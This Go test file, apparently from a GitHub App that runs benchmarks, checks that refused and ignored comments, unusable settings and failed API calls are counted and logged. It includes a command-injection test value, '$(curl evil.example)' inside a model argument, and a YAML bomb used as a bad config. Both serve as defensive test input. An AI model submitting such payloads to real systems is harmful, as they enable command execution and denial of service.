package service_test

import (
	"net/http"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ghx-dev/bench-action/internal/queue"
	"github.com/ghx-dev/bench-action/internal/sandbox/faults"
	"github.com/ghx-dev/bench-action/internal/sandbox/sandboxtest"
)

// tally keeps what is counted.
type tally struct {
	mu    sync.Mutex
	times map[string]int
}

func (r *rig) count(event, command, outcome string) {
	r.tally.mu.Lock()
	defer r.tally.mu.Unlock()
	if r.tally.times == nil {
		r.tally.times = map[string]int{}
	}
	r.tally.times[strings.Join([]string{event, command, outcome}, " ")]++
}

// counted returns how often an event, with a command, came to an outcome.
func (r *rig) counted(event, command, outcome string) int {
	r.tally.mu.Lock()
	defer r.tally.mu.Unlock()
	return r.tally.times[strings.Join([]string{event, command, outcome}, " ")]
}

// logged returns the lines of the log that have all of these texts.
func (r *rig) logged(parts ...string) (lines []string) {
	for line := range strings.Lines(r.log.String()) {
		all := true
		for _, part := range parts {
			all = all && strings.Contains(line, part)
		}
		if all {
			lines = append(lines, line)
		}
	}
	return lines
}

func TestWhatIsRefusedIsCountedAndLogged(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	for _, c := range []struct{ login, body, command, outcome string }{
		{"stranger", "/bench run", "run", "no_permission"},
		{"stranger", "/bench run --model '$(curl evil.example)'", "unreadable", "mistaken"},
		{"stranger", "/bench help", "help", "informed"},
		{"writer", "/bench run isues", "run", "mistaken"},
		{"writer", "/bench cancel", "cancel", "nothing_to_do"},
		{"writer", "/bench approve " + strings.Repeat("0", 40), "approve", "own_branch"},
		{"writer", "/bench help", "help", "carried_out"},
	} {
		r.comment(c.login, c.body)
		assert.Equal(t, 1, r.counted("issue_comment", c.command, c.outcome), c)
		assert.Len(t, r.logged("msg=command", "login="+c.login, "command="+c.command, "outcome="+c.outcome), 1, c)
	}
	assert.NotContains(t, r.log.String(), "curl", "what somebody wrote is not logged")
	assert.Empty(t, r.executor.works())
}

func TestWhatIsIgnoredIsCountedAndLogged(t *testing.T) {
	t.Parallel()
	r := newRig(t, manual)
	r.comment("writer", "/bench help")
	said, answers := r.lastComment(), len(r.comments())
	with := func(change func(comment, payload map[string]any)) map[string]any {
		payload := map[string]any{"action": "created", "issue": said["issue"], "sender": map[string]any{"login": "writer", "type": "User"}}
		comment := map[string]any{}
		for key, value := range said["comment"].(map[string]any) {
			comment[key] = value
		}
		payload["comment"] = comment
		change(comment, payload)
		return payload
	}
	for why, payload := range map[string]map[string]any{
		"talk": with(func(comment, _ map[string]any) { comment["body"] = "a secret that is nobody's business" }),
		"bot": with(func(comment, payload map[string]any) {
			comment["user"] = map[string]any{"login": appSlug + "[bot]", "type": "Bot"}
			payload["sender"] = comment["user"]
		}),
		"edited": with(func(comment, _ map[string]any) { comment["updated_at"] = "2099-01-01T00:00:00Z" }),
		"issue": with(func(_, payload map[string]any) {
			payload["issue"] = map[string]any{"number": r.number, "state": "open"}
		}),
	} {
		r.deliver("issue_comment", payload)
		assert.Equal(t, 1, r.counted("issue_comment", "", why), why)
		assert.Len(t, r.logged(`msg="left alone"`, "login=", "why="+why), 1, why)
	}
	assert.Len(t, r.comments(), answers)
	assert.NotContains(t, r.log.String(), "business", "what somebody wrote is not logged")
}

func TestSettingsThatCannotBeUsedAreCountedAndLogged(t *testing.T) {
	t.Parallel()
	for name, text := range map[string]string{
		"a mistake":   "model: a/b\nrepetitions: 1000\n",
		"a YAML bomb": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c,*c,*c,*c]\nmodel: scripted\n",
	} {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, text)
			r.pullEvent("opened")
			r.wait(1)
			assert.Equal(t, 1, r.counted("pull_request", "", "broken_settings"))
			assert.Len(t, r.logged(`msg="left alone"`, "login=writer", "why=broken_settings"), 1)
			r.comment("writer", "/bench run")
			assert.Equal(t, 1, r.counted("issue_comment", "run", "broken_settings"))
			assert.Contains(t, r.answer(), "the settings on the base branch cannot be used")
			assert.Empty(t, r.executor.works())
		})
	}
}

func TestPressesThatStartNothingAreCounted(t *testing.T) {
	t.Parallel()
	r := newRig(t, config)
	r.pullEvent("opened")
	r.wait(1)
	check := r.check().ID
	r.press("reader", "requested_action", "full", check)
	assert.Equal(t, 1, r.counted("check_run", "run", "no_permission"))
	assert.Len(t, r.logged("msg=command", "login=reader", "outcome=no_permission"), 1)

	app := r.app
	r.app = app + 1
	r.press("writer", "requested_action", "full", check)
	assert.Equal(t, 1, r.counted("check_run", "", "foreign"))
	r.app = app
	r.press("writer", "requested_action", "made_up", check)
	assert.Equal(t, 1, r.counted("check_run", "", "button"))

	r.push("src/b.ts")
	r.press("writer", "requested_action", "full", check)
	assert.Equal(t, 1, r.counted("check_run", "run", "outdated"))
	assert.Len(t, r.checks(), 1)

	require.NoError(t, r.db.Write(t.Context(), func(tx *queue.Tx) error {
		_, err := tx.Exec(t.Context(), "DELETE FROM run")
		return err
	}))
	r.press("writer", "requested_action", "full", check)
	assert.Equal(t, 1, r.counted("check_run", "run", "unknown_check"), "it is older than the tables")
}

// What GitHub does not let the App show is not shown, and logged.
func TestWhatCannotBeShownIsLogged(t *testing.T) {
	t.Parallel()
	r := newRig(t, config)
	for _, rule := range []faults.Rule{
		{Kind: faults.Unprocessable, Method: http.MethodPost, Path: sandboxtest.Path + "/issues/comments/{id}/reactions", Token: appToken},
		{Kind: faults.Unprocessable, Method: http.MethodPost, Path: sandboxtest.Path + "/check-runs", Token: appToken, Count: 1},
	} {
		_, err := r.Faults().Add(rule)
		require.NoError(t, err)
	}
	r.comment("writer", "/bench run")
	r.wait(1)
	assert.Len(t, r.executor.works(), 1, "it is measured nevertheless")
	assert.NotEmpty(t, r.logged("level=WARN", "no check run yet", "422"))
	assert.NotEmpty(t, r.logged("level=WARN", "react"), r.log.String())
	assert.Contains(t, r.answer(), "👍 `/bench run`")
}
